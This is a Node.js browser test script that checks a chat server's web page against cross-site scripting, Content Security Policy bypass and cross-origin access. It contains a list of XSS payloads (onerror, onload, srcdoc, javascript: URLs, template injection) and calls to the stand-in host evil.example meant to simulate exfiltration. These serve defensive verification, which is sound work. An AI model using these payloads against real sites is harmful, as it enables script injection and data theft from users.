#!/usr/bin/env node
// Script in names and texts, and pages of other sites, in Chromium against the web page of chatcored.
// security_page_test.mjs CHATCORED. Exit code 77: Chromium or the npm packages are missing.
import { createServer } from "node:http";
import { forget, launch, PATIENCE_MS, Server } from "./browser.mjs";

/* Each runs `pwned()` if its place is taken for markup. */
const MARKUP = ["<img/src=x onerror=pwned()>", "<script>pwned()</script>", "<svg/onload=pwned()>",
  "javascript:pwned()", "\"><iframe/srcdoc=\"<script>parent.pwned()</script>\">",
  "<a href=\"javascript:pwned()\">x</a>", "{{constructor.constructor('pwned()')()}}"];
const EVE = "<svg/onload=pwned()>";

function check(condition, what) {
  if (!condition) throw new Error(what);
}

class User {
  static async login(server, name) {
    const user = new User();
    user.server = server;
    user.token = await server.token(name);
    return user;
  }

  async do(method, path, body) {
    const answer = await fetch(new URL(path, this.server.url), { method,
      headers: { Authorization: `Bearer ${this.token}` }, body: body && JSON.stringify(body) });
    check(answer.ok, `${method} ${path}: ${answer.status}`);
    return answer.json();
  }

  send(path, text, number, more) {
    return this.do("POST", path, { text, client_id: `c${number}`, ...more });
  }
}

/* Everything that others can make somebody look at: names of users and groups, texts, edits, replies,
 * reactions, files. */
async function fill(server) {
  const eve = await User.login(server, EVE);
  await eve.do("PATCH", "/v1/profile", { name: MARKUP[1], avatar: MARKUP[3] });
  const { conversation } = await eve.do("POST", "/v1/conversations",
    { kind: "group", name: MARKUP[0], members: ["bob"] });
  const path = `/v1/conversations/${conversation}/messages`;
  let number = 0;
  let sent;
  for (const text of MARKUP) {
    sent = await eve.send(path, text, number++, { mentions: ["bob"], meta: { html: text } });
    await eve.do("PUT", `${path}/${sent.message}/reactions/${encodeURIComponent("<b onclick=pwned()>")}`);
  }
  await eve.send(path, "reply", number++, { reply_to: sent.message });
  await eve.do("PATCH", `${path}/${sent.message}`, { text: MARKUP[2] });
  const granted = await eve.do("POST", "/v1/media",
    { name: `${MARKUP[0]}.html`, type: "text/html", bytes: MARKUP[1].length });
  const put = await fetch(new URL(granted.url, server.url),
    { method: granted.method, headers: granted.headers, body: MARKUP[1] });
  check(put.status === 201, `upload: ${put.status}`);
  await eve.send(path, "last", number++, { media: [granted.media] });
  await eve.send("/v1/users/bob/messages", MARKUP[0], number++);
}

/* A page whose alarms are kept. */
async function open(browser, url) {
  const page = await (await browser.createBrowserContext()).newPage();
  page.alarms = [];
  await page.exposeFunction("pwned", () => page.alarms.push("script of a stranger ran"));
  page.on("dialog", (dialog) => { page.alarms.push(dialog.message()); dialog.dismiss(); });
  await page.goto(url);
  return page;
}

async function sees(page, text, selector) {
  await page.waitForFunction((wanted, where) => [...document.querySelectorAll(where)]
    .some((element) => element.checkVisibility() && element.textContent.includes(wanted)),
  { timeout: PATIENCE_MS, polling: 50 }, text, selector)
    .catch(() => { throw new Error(`there is no "${text}" in ${selector}`); });
}

const steps = {
  async "markup in names, texts and files stays text"(browser, server) {
    await fill(server);
    const page = await open(browser, server.url);
    await page.type("#login [name=user]", "bob");
    await page.keyboard.press("Enter");
    await sees(page, "online", "#link");
    await sees(page, MARKUP[0], "#list");
    const entries = await page.$$("#list .entry");
    check(entries.length === 2, `${entries.length} conversations`);
    for (const entry of entries) {
      await entry.evaluate((element) => element.click());
      await sees(page, MARKUP[0], "#messages, #title");
    }
    await page.evaluate((name) => [...document.querySelectorAll("#list .entry")]
      .find((entry) => entry.querySelector(".name").textContent === name).click(), MARKUP[0]);
    await sees(page, "last", ".bubble");
    await page.click("#menu");
    await sees(page, "bob", ".members li");
    const strangers = await page.evaluate(() => [...document.querySelectorAll("script, iframe, object, embed, a")]
      .filter((element) => !/\/chat\.js$/.test(element.src ?? "") &&
        (element.tagName !== "A" || !/^(https?|blob):/.test(element.href)))
      .map((element) => element.outerHTML.slice(0, 100)));
    check(strangers.length === 0, `markup got into the page: ${strangers}`);
    const handlers = await page.evaluate(() => [...document.querySelectorAll("*")].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith("on"))).length);
    check(handlers === 0, "an attribute became a handler");
    check(page.alarms.length === 0, page.alarms.join());
  },

  async "the policy holds where the page would not"(browser, server) {
    const page = await open(browser, server.url);
    const blocked = await page.evaluate(async () => {
      const found = [];
      document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='pwned()'>" +
        "<iframe srcdoc='<script>parent.pwned()</script>'></iframe><form action='https://evil.example'>");
      document.body.append(Object.assign(document.createElement("script"), { textContent: "pwned()" }));
      document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }));
      document.body.append(Object.assign(document.createElement("link"),
        { rel: "stylesheet", href: "https://evil.example/x.css" }));
      await fetch("https://evil.example/stolen").catch(() => found.push("fetch"));
      await new Promise((done) => setTimeout(done, 300));
      return found;
    });
    for (const wanted of ["script-src-elem", "script-src-attr", "style-src-elem", "connect-src", "fetch"])
      check(blocked.includes(wanted), `${wanted} is not blocked: ${blocked}`);
    check(page.alarms.length === 0, page.alarms.join());
  },

  async "a page of another site gets nothing"(browser, server) {
    const site = createServer((_, answer) => answer.setHeader("Content-Type", "text/html").end("<p>evil"));
    await new Promise((done) => site.listen(0, "127.0.0.1", done));
    const page = await open(browser, `http://localhost:${site.address().port}/`); /* another host */
    const outcome = await page.evaluate(async (url) => {
      const socket = new WebSocket(new URL("/v1/ws", url.replace("http", "ws")));
      const opened = await new Promise((done) => {
        socket.onopen = () => done(true);
        socket.onerror = () => done(false);
      });
      const read = (path, options) => fetch(new URL(path, url), options).then(() => true, () => false);
      const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: url }));
      await new Promise((done) => { frame.onload = done; });
      let framed = true;
      try { framed = Boolean(frame.contentDocument); } catch { framed = false; }
      return { opened, framed, token: await read("/v1/dev/token", { method: "POST", body: '{"user":"bob"}' }),
        rest: await read("/v1/conversations", { headers: { Authorization: "Bearer x" } }),
        health: await read("/v1/openapi.yaml") };
    }, server.url);
    site.close();
    for (const [what, happened] of Object.entries(outcome)) check(!happened, `it may: ${what}`);
  },
};

const server = new Server(process.argv[2] ?? process.env.CHATCORED);
await server.start("--spam-filter-off");
const browser = await launch();
let failed = 0;
try {
  for (const [name, step] of Object.entries(steps)) {
    try {
      await step(browser, server);
      console.log(`ok ${name}`);
    } catch (error) {
      console.log(`not ok ${name}\n  ${error.message}`);
      failed++;
    }
  }
} finally {
  await browser.close();
  const code = await server.stop();
  if (code !== 0) console.log(`not ok chatcored ended with ${code}`), failed++;
  forget();
}
console.log(`${Object.keys(steps).length - failed} passed, ${failed} failed`);
process.exitCode = failed ? 1 : 0;
